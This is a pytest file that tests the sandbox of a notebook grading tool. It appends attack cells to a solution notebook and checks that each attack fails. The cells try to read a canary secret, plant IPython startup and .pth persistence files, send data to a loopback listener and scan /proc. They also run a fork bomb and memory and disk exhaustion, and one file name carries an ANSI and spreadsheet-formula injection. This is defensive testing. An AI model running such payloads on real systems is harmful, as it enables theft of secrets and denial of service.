"""A hostile class, graded for real: every attack is a submission in one batch, next to
honest ones, graded by `ukva grade` in its own process with real sandboxed kernels.

Each attack is the chapter-01 solution notebook with one more cell that tries something, then
raises `RuntimeError("ATTACK <json>")` with what it got, so what the sandbox let it see lands in
the report (the one channel every submission has). Each test asserts that the attack ran, that it
failed (the canary is nowhere in any report or output, no file appeared outside the sandbox, the
listener got nothing), that the honest neighbours got full marks, that the batch finished, and
that no process outlived the grader. Then: refusal without a sandbox, --no-sandbox recorded, and a
few attacks again with the grader running as a non-root user.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import site
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from ukva_widgets.grading import all_items, isolation
from ukva_widgets.grading.sandbox import Limits, SandboxUnavailable, check_available, run_submission

ROOT = Path(__file__).resolve().parents[2]
SOL01 = ROOT / "exercises" / "solutions" / "01-unix-process.ipynb"
# What chapter 01's solution scores automatically (manually graded items are the instructor's).
FULL01 = sum(i.max_points for i in all_items() if i.id.split(".")[0] == "1" and i.kind != "manual")
GRADING = ROOT / "ukva_widgets" / "grading"
CANARY = "ukvacanary" + secrets.token_hex(8)
SEED = 700_000_000 + secrets.randbelow(100_000_000)  # a number no other text here contains
ANSI_NAME = "\x1b[2J\x1b[31m=cmd|' calc'!A0.ipynb"
MEMORY_MIB, DISK_MIB = 2048, 64

# The report keeps 200 characters of an error: results are short (exception names without "Error").
PRELUDE = ("import json, os, glob, socket, time, select, errno\nres = {}\n"
           "E = lambda e: type(e).__name__.replace('Error', '')\n")
RAISE = "\nraise RuntimeError('ATTACK ' + json.dumps(res, default=str, separators=(',', ':')))\n"

ATTACKS = {
    # The instructor's 0600 file, their home, and the same through /proc/1/root.
    "read_canary": """
res['r'] = []
for p in [{canary!r}, {home!r}, '/proc/1/root' + {canary!r}, '/root/' + os.path.basename({home!r})]:
    try:
        res['r'].append(open(p).read()[:80] if p.endswith('.txt') else os.listdir(p))
    except Exception as e:
        res['r'].append(E(e))
""",
    # Another submission: read it, change it, delete it; and look for any notebook anywhere.
    "read_other_submission": """
victim = {subs!r} + '/honest_a.ipynb'
for what, act in [('read', lambda: open(victim).read()[:80]),
                  ('append', lambda: open(victim, 'a').write(' ')),
                  ('delete', lambda: os.remove(victim))]:
    try:
        res[what] = act()
    except Exception as e:
        res[what] = E(e)
res['notebooks'] = []
for d, dirs, fs in os.walk('/'):
    dirs[:] = [x for x in dirs if os.path.join(d, x) not in ('/proc', '/sys', '/usr', '/dev')
               and 'site-packages' not in x and not x.startswith('python3')]
    res['notebooks'] += [os.path.join(d, f) for f in fs if f.endswith('.ipynb')]
""",
    # Sabotage later kernels and the next run: IPython startup files, a .pth in site-packages,
    # and files next to the reports (including the report itself).
    "writes_outside": """
targets = [{home!r} + '/.ipython/profile_default/startup/00-evil.py',
           {site!r} + '/ukva-evil.pth', {reports!r} + '/evil.txt', {reports!r} + '/g.json',
           {tmp!r} + '/evil.txt', '/tmp/evil.txt']
res['w'] = []
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, 'w') as f:
            f.write('# {canary}\\n')
        res['w'].append('written')
    except Exception as e:
        res['w'].append(E(e))
# Its own $HOME is its own tmpfs: writing there works, and dies with the sandbox.
own = os.path.expanduser('~/.ipython/profile_default/startup/00-evil.py')
os.makedirs(os.path.dirname(own), exist_ok=True)
open(own, 'w').write('import os; os._exit(3)\\n')
res['own'] = os.path.exists(own)
""",
    # The instructor's loopback listener, a UDP packet to it, and DNS.
    "network": """
for what, act in [('tcp', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'{canary}')),
                  ('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{canary}', ('127.0.0.1', {port}))),
                  ('dns', lambda: socket.gethostbyname('pypi.org')),
                  ('interfaces', lambda: [l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]])]:
    try:
        res[what] = act()
    except Exception as e:
        res[what] = E(e)
""",
    # Every process's command line and environment, for the seed and the grader's variables.
    "proc_scan": """
found, pids = [], []
for p in glob.glob('/proc/[0-9]*'):
    pids.append(p)
    for f in ('cmdline', 'environ'):
        try:
            text = open(p + '/' + f, 'rb').read().decode(errors='replace')
        except Exception:
            continue
        for needle in ({seed!r}, 'ukvacanary', '--seed', 'UKVA_'):
            if needle in text:
                found.append([p, f, needle])
res = dict(found=found, processes=len(pids), ukva_env=[k for k in os.environ if 'UKVA' in k])
""",
    # The fork server's socket (gone), other kernels' sockets and connection files, loopback ports.
    "other_kernels": """
res['foreign_sockets'] = [l.split()[-1] for l in open('/proc/net/unix').readlines()[1:]
                          if len(l.split()) > 7 and '/home/student/.ipc/kernel-' not in l.split()[-1]]
res['forkserver'] = glob.glob('/tmp/ukva-forkserver-*')
dirs = glob.glob('/tmp/ukva-grade-*') + glob.glob({tmp!r} + '/*')
files = glob.glob('/tmp/ukva-grade-*/*') + glob.glob({tmp!r} + '/*/*')
res['grading'] = [len(dirs), [f[len(d):] for d in dirs[:1] for f in files]]
res['conn'] = (glob.glob('/tmp/*/kernel*.json') + glob.glob('/tmp/*/*/kernel*.json')
                           + glob.glob({tmp!r} + '/*/*/kernel*.json') + glob.glob('/run/user/*/jupyter/*'))
open_ports = []
for port in [{port}, 8888, 5555, *range(40000, 40200)]:
    s = socket.socket()
    s.settimeout(0.05)
    # A port in the ephemeral range can connect to itself (TCP simultaneous open) with no
    # listener at all: only a connection to another socket means something listens there.
    if s.connect_ex(('127.0.0.1', port)) == 0 and s.getsockname() != s.getpeername():
        open_ports.append(port)
    s.close()
res['open_ports'] = open_ports
# What listens in the sandbox's own network namespace (its /proc/net/tcp*: state 0A is LISTEN).
own = []
for table in ('/proc/net/tcp', '/proc/net/tcp6'):
    try:
        rows = open(table).read().splitlines()[1:]
    except OSError:
        continue
    own += [int(r.split()[1].rsplit(':', 1)[1], 16) for r in rows if r.split()[3] == '0A']
res['own_listening'] = own
res['host_port'] = {port}
""",
    "fork_bomb": """
kids, err = [], None
for i in range(2000):
    try:
        pid = os.fork()
    except OSError as e:
        err = errno.errorcode.get(e.errno)
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    kids.append(pid)
res = dict(forked=len(kids), error=err)
""",
    # Four children of 1.2 GiB each, every page touched, all alive at once if they can be.
    "memory_in_children": """
N = int(1.2 * (1 << 30))
r, w = os.pipe()
kids = []
for i in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            b = bytearray(N)
            b[::4096] = b'\\x01' * len(range(0, N, 4096))
            os.write(w, f'{{os.getpid()}}:1\\n'.encode())
        except MemoryError:
            os.write(w, f'{{os.getpid()}}:0\\n'.encode())
        time.sleep(600)
        os._exit(0)
    kids.append(pid)
lines, deadline = b'', time.time() + 12
while lines.count(b'\\n') < 4 and time.time() < deadline:  # a killed child never reports
    if select.select([r], [], [], 0.2)[0]:
        lines += os.read(r, 1000)
time.sleep(1)
alive = [p for p in kids if os.waitpid(p, os.WNOHANG) == (0, 0)]
full = [int(l.split(b':')[0]) for l in lines.split() if l.endswith(b':1')]
res = dict(reported_full=len(full), full_and_alive=len([p for p in full if p in alive]), alive=len(alive))
""",
    # Sixteen files of 63 MiB in every place that might be writable.
    "fills_disk": """
written = []
for d in [os.environ['HOME'], os.environ['TMPDIR'], '/tmp', '/dev/shm', '/dev', '/var/tmp', '/run',
          {tmp!r}, {subs!r}, {home!r}]:
    total = 0
    for i in range(16):
        try:
            with open(f'{{d}}/fill{{i}}', 'wb') as f:
                try:
                    for _ in range(63):
                        f.write(b'x' * (1 << 20))
                finally:
                    total += f.tell()
        except OSError:
            break
    written.append(total >> 20)
res = dict(mib=written)
""",
    # A thread that prints 30 MB while the grader collects the answers.
    "floods_collection": """
import sys, threading
def flood():
    time.sleep(0.5)  # after this cell's own result
    for _ in range(300):
        print('y' * 100_000)
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
res = dict(started=True)
""",
    # ANSI escapes and a spreadsheet formula in the output and the file name (the name itself
    # is in ANSI_NAME): the sandbox shows the kernel only "submission.ipynb".
    "ansi_name": """
print('\\x1b[2J\\x1b[31m=cmd|calc!A0')
cmd = open('/proc/self/cmdline').read()
res = dict(files=[f for f in os.listdir('.') if not f.startswith('.')], name_on_cmdline='=cmd' in cmd or '\\x1b' in cmd)
""",
}


def _attack_notebook(code: str):
    nb = nbformat.read(SOL01, as_version=4)
    nb.cells.append(new_code_cell(PRELUDE + code + RAISE))
    return nb


def _processes_of(markers: list[str]) -> list[str]:
    """Command lines of live processes that mention any of `markers`."""
    found = []
    for p in Path("/proc").iterdir():
        if not p.name.isdigit() or int(p.name) == os.getpid():
            continue
        try:
            cmd = (p / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(m in cmd for m in markers):
            found.append(f"{p.name}: {cmd[:200]}")
    return found


class Listener:
    """A TCP and UDP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.got: list[bytes] = []
        self.stop = False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        import select

        while not self.stop:
            try:
                ready, _, _ = select.select([self.tcp, self.udp], [], [], 0.1)
            except (OSError, ValueError):  # closed
                return
            for s in ready:
                if self.stop:
                    return
                if s is self.tcp:
                    conn, _ = s.accept()
                    conn.settimeout(1)
                    try:
                        self.got.append(b"connection:" + conn.recv(1000))
                    except OSError:
                        self.got.append(b"connection")
                    conn.close()
                else:
                    self.got.append(b"udp:" + s.recv(1000))

    def close(self) -> None:
        self.stop = True
        self.tcp.close()
        self.udp.close()


def _tree(path: Path) -> set[str]:
    return {str(p.relative_to(path)) for p in path.rglob("*")} if path.exists() else set()


def _grade_batch(base: Path, attacks: dict[str, str], honest: int, extra_env: dict[str, str] | None = None,
                 user: list[str] | None = None, prepare=None, wrap: list[str] | None = None,
                 options: list[str] | None = None) -> dict:
    """Grade the attacks and `honest` honest copies with `ukva grade` in a subprocess, as an
    instructor would; return what came out, and what was left around. `user` runs it as another
    user (and gives that user the files), `wrap` is a command prefix inside that, `options`
    replaces the limits given to `ukva grade`."""
    home, subs, reports, tmp = base / "home", base / "subs", base / "reports", base / "tmp"
    for d in (home, subs, reports, tmp):
        d.mkdir(mode=0o700)
    canary = home / "secret.txt"
    canary.write_text(CANARY + "\n")
    canary.chmod(0o600)
    listener = Listener()
    sitepkg = site.getsitepackages()[0]
    fill = dict(canary=str(canary), home=str(home), subs=str(subs), reports=str(reports), tmp=str(tmp),
                site=sitepkg, port=listener.port, seed=str(SEED))
    for i in range(honest):
        shutil.copy(SOL01, subs / f"honest_{'az'[i % 2]}{i}.ipynb")
    shutil.copy(SOL01, subs / "honest_a.ipynb")
    for name, code in attacks.items():
        file = ANSI_NAME if name == "ansi_name" else f"attack_{name}.ipynb"
        nbformat.write(_attack_notebook(code.format(**fill)), subs / file)
    if prepare:  # more submissions, written by the caller
        prepare(subs)
    if user:  # the grader's uid must own what it reads and writes (a link itself, not its target)
        for d in (base, home, subs, reports, tmp):
            shutil.chown(d, 65534, 65534)
        for f in [*subs.iterdir(), canary]:
            os.chown(f, 65534, 65534, follow_symlinks=False)
    site_before = set(os.listdir(sitepkg))
    subs_before = {p.name: p.read_bytes() for p in subs.iterdir() if p.is_file() and not p.is_symlink()}
    home_before = _tree(home)
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(tmp), "UKVA_CANARY_ENV": CANARY, **(extra_env or {})}
    cmd = [sys.executable, "-m", "ukva_widgets.cli", "grade", str(subs), "--json", str(reports / "g.json"),
           "--csv", str(reports / "g.csv"), "--jobs", "2", "--seed", str(SEED), "--quiet",
           *(options or ["--cell-timeout", "25", "--timeout", "60", "--memory", str(MEMORY_MIB)])]
    try:
        proc = subprocess.run([*(user or []), *(wrap or []), *cmd], env=env, capture_output=True, text=True,
                              timeout=600, cwd=str(base))
    finally:
        listener.close()
    left = _processes_of([str(tmp), str(GRADING / "kernel_stub.py"), str(GRADING / "isolation_exec.py")])
    report = json.loads((reports / "g.json").read_text()) if (reports / "g.json").exists() else None
    out = {
        "proc": proc, "report": report,
        "report_uid": (reports / "g.json").stat().st_uid if report else None, "left": left, "listener": listener.got,
        "csv": (reports / "g.csv").read_text() if (reports / "g.csv").exists() else "",
        "site_new": set(os.listdir(sitepkg)) - site_before,
        "subs_changed": [n for n, b in subs_before.items() if not (subs / n).exists() or (subs / n).read_bytes() != b],
        # What the grader itself made there (IPython's profile directory) is allowed; any file
        # holding the canary or an IPython startup file is not.
        "home_new": {f for f in _tree(home) - home_before
                     if "startup" in f or ((home / f).is_file() and CANARY in (home / f).read_text(errors="replace"))}, "tmp_left": _tree(tmp), "reports": _tree(reports),
            "cgroups_left": _cgroup_dirs(),
    }
    out["by_name"] = {Path(s["path"]).name: s for s in report["submissions"]} if report else {}
    return out


def _cgroup_dirs() -> list[str]:
    parents = isolation.cgroup_parents()
    if not parents:
        return []
    return [os.path.join(d, n) for d in set(parents[1].values()) for n in os.listdir(d)
            if n.startswith("ukva-grade-") and not os.path.exists(f"/proc/{n.split('-')[2]}")]


def _result(batch: dict, name: str) -> dict:
    """What the attack cell raised, parsed from its submission's error in the report."""
    sub = batch["by_name"][ANSI_NAME if name == "ansi_name" else f"attack_{name}.ipynb"]
    m = re.search(r"RuntimeError: ATTACK (\{.*)", sub["error"] or "")
    assert m, f"the attack {name} did not run to its end: {sub['error']}"
    text = m.group(1).split("; ")[0]
    try:
        return json.loads(text)
    except json.JSONDecodeError:
        return {"$truncated": text}  # the report keeps 200 characters of an error


@pytest.fixture(scope="module")
def batch():
    base = Path(tempfile.mkdtemp(prefix="ukva-attack-"))
    try:
        yield _grade_batch(base, ATTACKS, honest=2)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_the_batch_finished_and_every_honest_neighbour_got_full_marks(batch):
    proc, report = batch["proc"], batch["report"]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert len(report["submissions"]) == len(ATTACKS) + 3
    honest = [s for n, s in batch["by_name"].items() if n.startswith("honest_")]
    assert len(honest) == 3
    for s in honest:
        assert s["error"] is None and s["max_points"] == FULL01 and s["points"] == FULL01, s


def test_no_process_and_no_cgroup_outlived_the_grader(batch):
    assert batch["left"] == []
    assert batch["cgroups_left"] == []
    assert batch["tmp_left"] == set()  # every work directory was removed


def test_the_canary_and_the_seed_are_nowhere_in_any_report_or_output(batch):
    everything = batch["proc"].stdout + batch["proc"].stderr + batch["csv"] + json.dumps(batch["report"])
    assert CANARY not in everything
    for name in ATTACKS:
        assert str(SEED) not in json.dumps(_result(batch, name))


def test_reading_a_canary_outside_the_sandbox_fails(batch):
    res = _result(batch, "read_canary")
    assert res["r"] and all(v in ("FileNotFound", "Permission") for v in res["r"]), res


def test_another_submission_can_be_neither_read_nor_changed(batch):
    res = _result(batch, "read_other_submission")
    assert res["read"] == res["append"] == res["delete"] == "FileNotFound", res
    assert res.get("notebooks") == ["/home/student/submission.ipynb"], res  # only its own
    assert batch["subs_changed"] == []


def test_no_file_appears_outside_the_sandbox(batch):
    res = _result(batch, "writes_outside")
    assert res["own"] is True  # its own $HOME is writable, and goes with its sandbox
    assert len(res["w"]) == 6 and "written" not in res["w"], res
    assert batch["site_new"] == set() and batch["home_new"] == set()
    assert batch["reports"] == {"g.json", "g.csv"}


def test_the_listener_on_loopback_gets_nothing(batch):
    res = _result(batch, "network")
    assert batch["listener"] == []
    assert res["tcp"] == "ConnectionRefused" and res["dns"] == "gaierror", res
    assert res["interfaces"] == ["lo"], res  # an empty network namespace


def test_no_process_shows_the_seed_or_the_graders_environment(batch):
    res = _result(batch, "proc_scan")
    assert res["found"] == [] and res["processes"] <= 3, res  # its init, itself (and a child at most)
    assert res["ukva_env"] == []


def test_other_kernels_and_the_fork_server_are_out_of_reach(batch):
    res = _result(batch, "other_kernels")
    assert "$truncated" not in res, res
    assert res["forkserver"] == [] and res["conn"] == [], res
    # Nothing outside answers: not the test's listener on the host's loopback, and any port that
    # does answer is one a process of this very sandbox listens on in its own network namespace.
    assert res["host_port"] not in res["open_ports"], res
    assert set(res["open_ports"]) <= set(res["own_listening"]), res
    # Only its own grading directory shows, holding nothing but the link to its own root.
    assert res["grading"] == [1, ["/ipc"]], res
    assert [s for s in res["foreign_sockets"] if s.startswith("/")] == [], res


def test_a_fork_bomb_stops_at_the_process_limit(batch):
    res = _result(batch, "fork_bomb")
    assert res["error"] == "EAGAIN" and res["forked"] < Limits().processes, res
    assert res["forked"] > 100, res  # it did fork: the limit, not something else, stopped it


def test_children_cannot_hold_more_memory_together_than_the_limit(batch):
    res = _result(batch, "memory_in_children")
    assert res["full_and_alive"] * 1.2 * 1024 <= MEMORY_MIB, res
    if isolation.cgroup_parents():  # as root: the cgroup's OOM killer, not a MemoryError, stopped them
        assert res["alive"] < 4, res


def test_the_disk_a_submission_can_fill_is_its_tmpfs(batch):
    res = _result(batch, "fills_disk")
    assert len(res["mib"]) == 10 and sum(res["mib"]) <= DISK_MIB + isolation.SHM_MIB, res
    assert batch["tmp_left"] == set() and batch["subs_changed"] == []


def test_a_flood_during_collection_costs_only_its_own_output(batch):
    # What the sandbox controls: the batch went on, the flooder's own answers were collected.
    # (Capping output during collection is the report side's.)
    sub = batch["by_name"]["attack_floods_collection.ipynb"]
    assert _result(batch, "floods_collection") == {"started": True}
    assert sub["points"] == FULL01


def test_a_hostile_file_name_never_reaches_the_kernel(batch):
    # The kernel sees its notebook as submission.ipynb and no name on any command line; what the
    # terminal and CSV show of the name is the report side's (escaping).
    res = _result(batch, "ansi_name")
    assert res == {"files": ["submission.ipynb"], "name_on_cmdline": False}, res
    assert batch["by_name"][ANSI_NAME]["points"] == FULL01


# ------------------------------------------------------------------ refusal, --no-sandbox, non-root

def test_without_bwrap_grading_refuses_with_the_fix(monkeypatch, tmp_path):
    from ukva_widgets.grading.batch import grade_all

    monkeypatch.setenv("UKVA_BWRAP", "/nonexistent/bwrap")
    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
        check_available(Limits())
    path = tmp_path / "honest.ipynb"
    shutil.copy(SOL01, path)
    with pytest.raises(SandboxUnavailable, match="UKVA_BWRAP=/nonexistent/bwrap"):
        grade_all([path, path], seed=1, limits=Limits(), jobs=2, progress=False)
    assert check_available(Limits(sandbox=False)) == "none (--no-sandbox)"


def test_ukva_grade_refuses_without_bwrap_and_writes_no_report(tmp_path):
    shutil.copy(SOL01, tmp_path / "honest.ipynb")
    env = {**os.environ, "UKVA_BWRAP": "/nonexistent/bwrap"}
    proc = subprocess.run([sys.executable, "-m", "ukva_widgets.cli", "grade", str(tmp_path / "honest.ipynb"),
                           "--json", str(tmp_path / "g.json"), "--quiet"], env=env, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode != 0 and "apt-get install bubblewrap" in proc.stderr and "--no-sandbox" in proc.stderr
    assert "Traceback" not in proc.stderr and not (tmp_path / "g.json").exists()


def test_no_sandbox_is_recorded_and_really_is_none(tmp_path):
    # The control experiment: without the sandbox the same attack reads the canary.
    canary = tmp_path / "secret.txt"
    canary.write_text(CANARY)
    canary.chmod(0o600)
    nb = _attack_notebook(ATTACKS["read_canary"].format(canary=str(canary), home=str(tmp_path)))
    run = run_submission(nb, {}, Limits(sandbox=False, cell_seconds=20, total_seconds=60))
    assert run.isolation == "none (--no-sandbox)"
    assert any(CANARY in p for p in run.problems)
    nb = _attack_notebook(ATTACKS["read_canary"].format(canary=str(canary), home=str(tmp_path)))
    run = run_submission(nb, {}, Limits(cell_seconds=20, total_seconds=60))
    assert run.isolation.startswith("bwrap:") and not any(CANARY in p for p in run.problems)


NONROOT = ["read_canary", "read_other_submission", "writes_outside", "network", "proc_scan", "other_kernels",
           "fork_bomb", "memory_in_children", "fills_disk"]


def _nonroot_wrapper(base: Path) -> list[str]:
    """A command prefix that runs the grader as uid 65534 in a private mount namespace where the
    Python environment is reachable (it may live under /root, which 65534 cannot enter)."""
    script = base / "nonroot.sh"
    lines = ["set -e"]
    for i, src in enumerate(isolation.python_sources()):
        stage = base / f"py{i}"
        stage.mkdir()
        lines.append(f"mount --bind {src} {stage}")
    lines.append("mount -t tmpfs -o mode=0755 tmpfs /root")
    for i, src in enumerate(isolation.python_sources()):
        if src.startswith("/root/"):
            lines += [f"mkdir -p {src}", f"mount --bind {base / f'py{i}'} {src}"]
    lines.append('exec setpriv --reuid 65534 --regid 65534 --clear-groups "$@"')
    script.write_text("\n".join(lines) + "\n")
    return ["unshare", "--mount", "--propagation", "private", "sh", str(script)]


def test_the_attacks_fail_as_well_when_the_grader_is_not_root():
    if os.geteuid() != 0:
        pytest.skip("this test becomes a non-root user (setpriv); run as root, as CI does, "
                    "or run this whole file as the non-root user")
    if not shutil.which("setpriv") or not shutil.which("unshare"):
        pytest.skip("setpriv/unshare (util-linux) are needed to become a non-root user here")
    base = Path(tempfile.mkdtemp(prefix="ukva-attack-nr-"))
    os.chmod(base, 0o755)
    try:
        batch = _grade_batch(base, {k: ATTACKS[k] for k in NONROOT}, honest=1, user=_nonroot_wrapper(base))
        proc = batch["proc"]
        assert proc.returncode == 0, proc.stderr[-2000:]
        assert batch["report_uid"] == 65534  # the grader really was uid 65534
        isolations = {s.get("isolation") for s in batch["report"]["submissions"]} - {None}
        assert isolations and all("not root" in i and "cpu share not capped" in i for i in isolations), isolations
        # No cgroup is delegated to uid 65534 here: the instructor is told what that costs.
        assert "warning: no cgroup can be made here" in proc.stderr and "Delegate=yes" in proc.stderr
        for s in batch["by_name"].values():
            if s["path"].endswith("honest_a.ipynb") or "/honest_" in s["path"]:
                assert s["points"] == FULL01 and s["error"] is None, s
        assert CANARY not in proc.stdout + proc.stderr + batch["csv"] + json.dumps(batch["report"])
        assert batch["listener"] == [] and batch["left"] == [] and batch["subs_changed"] == []
        assert batch["site_new"] == set() and batch["home_new"] == set() and batch["tmp_left"] == set()
        assert all(v in ("FileNotFound", "Permission") for v in _result(batch, "read_canary")["r"])
        assert "written" not in _result(batch, "writes_outside")["w"]
        assert _result(batch, "proc_scan")["found"] == []
        fork = _result(batch, "fork_bomb")
        # No cgroup here: RLIMIT_NPROC, counted in the sandbox's own user namespace, stops it.
        assert fork["error"] == "EAGAIN" and 100 < fork["forked"] < Limits().processes, fork
        assert sum(_result(batch, "fills_disk")["mib"]) <= DISK_MIB + isolation.SHM_MIB
        # No cgroup: the watchdog that sums the sandbox's memory kills it (the kernel and its
        # children) when the children together pass the limit, so the cell never gets to report.
        sub = batch["by_name"]["attack_memory_in_children.ipynb"]
        assert "reached the memory limit" in sub["error"] and "ATTACK" not in sub["error"], sub["error"]
    finally:
        shutil.rmtree(base, ignore_errors=True)
